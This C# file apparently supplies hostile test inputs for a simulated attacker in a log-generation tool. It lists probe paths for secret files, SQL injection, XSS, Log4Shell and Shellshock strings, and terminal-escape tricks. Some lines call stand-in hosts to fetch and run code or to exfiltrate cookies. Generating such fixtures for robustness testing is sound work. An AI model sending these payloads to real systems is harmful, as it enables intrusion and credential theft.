using System.Text;

namespace CfLogStream.Generator.Simulation.Actors;

/// <summary>What attackers write: quotes, line ends, terminal escapes, HTML, SQL and odd Unicode, for every field that they
/// control.</summary>
internal static class HostileTexts
{
    public static readonly byte[][] ProbePaths = Utf8(
        "/.env", "/.git/config", "/.aws/credentials", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php",
            "/phpmyadmin/index.php", "/admin/config.php",
        "/backup.zip", "/db.sql", "/config.json", "/server-status", "/actuator/env", "/actuator/heapdump", "/solr/admin/info/system",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/api/.env", "/api/v1/pods",
            "/api/swagger.json", "/v1/../../etc/passwd",
        "/console/login/LoginForm.jsp", "/manager/html", "/jenkins/script", "/geoserver/web/", "/telescope/requests",
            "/debug/default/view", "/.vscode/sftp.json", "/id_rsa",
        "/<script>alert(1)</script>", "/%22%3E%3Csvg/onload=alert(1)%3E", "/\"onmouseover=\"x", "/\u001b[2J\u001b[31mowned",
            "/a\tb\r\nSet-Cookie: x=1", "/ünïcödé/\U0001F4A9",
        "/x\u2028y\u2029z\u0085", "/';DROP TABLE requests;--", "/\\\\evil\\share", "/${jndi:ldap://x.example/a}", "/\0null", "/"
            + new string('A', 900));

    public static readonly byte[][] UserAgents = Utf8(
        "<img src=x onerror=alert(1)>", "Mozilla/5.0 \"quoted\" 'single' \\backslash\\", "sqlmap/1.8.4#stable (https://sqlmap.org)",
            "\u001b]0;title\u0007\u001b[1;31mred\u001b[0m",
        "() { :; }; /bin/bash -c 'curl http://x.example/`id`'", "${jndi:ldap://${env:USER}.x.example/a}", "agent\r\nX-Injected: 1",
            "\U0001F600\U0001F47E ütf8 \u202Eevil\u202C",
        "'; DELETE FROM requests_1m WHERE 1=1; --", "{{7*7}}{%25 debug %25}", "zgrab/0.x",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "masscan/1.3", "\t", "%s%s%s%n");

    public static readonly byte[][] Referers = Utf8(
        "https://evil.example/\"><script>document.location='//x.example/'+document.cookie</script>", "javascript:alert(1)//",
            "https://x.example/?q=a&b=<b>&c='or 1=1",
        "android-app://\u001b[31m", "\U0001D4D7\U0001D4F8\U0001D4FC\U0001D4FD", "https://x.example/a\nb?c\td");

    public static readonly byte[][] Words = Utf8("<svg/onload=alert(1)>", "null", "' OR '1'='1", "\u001b[8m", "a\u2028b", "\\u0000",
        "\U0001F9EA", "x\"y\\z");

    /// <summary>Methods that are not the endpoint's own; the first is the preflight's.</summary>
    public static readonly byte[][] Methods = Utf8("OPTIONS", "TRACE", "PROPFIND", "DEBUG", "GET\"", "<b>", "X\u001b[0m");

    public static readonly (Payload Payload, byte[] Text)[] Attacks =
    [
        .. Utf8("1'%20OR%201=1--", "1%20UNION%20SELECT%20username,password%20FROM%20users", "1;WAITFOR%20DELAY%20'0:0:5'--",
            "a\" OR \"\"=\"").Select(text => (Payload.SqlInjection, text)),
        .. Utf8("<script>alert(document.domain)</script>", "\"><img src=x onerror=alert`1`>",
            "javascript:/*--></title></style>*/alert()").Select(text => (Payload.CrossSiteScripting, text)),
        .. Utf8("${jndi:ldap://x.example/a}", ";cat%20/etc/passwd", "`id`", "$(curl%20x.example|sh)").Select(text =>
            (Payload.RemoteCode, text)),
        .. Utf8("/../../../../etc/passwd", "/..%2f..%2f..%2fwindows/win.ini", "/static//..\\..\\boot.ini\0").Select(text =>
            (Payload.FileInclusion, text)),
    ];

    private static byte[][] Utf8(params string[] texts) => [.. texts.Select(Encoding.UTF8.GetBytes)];
}
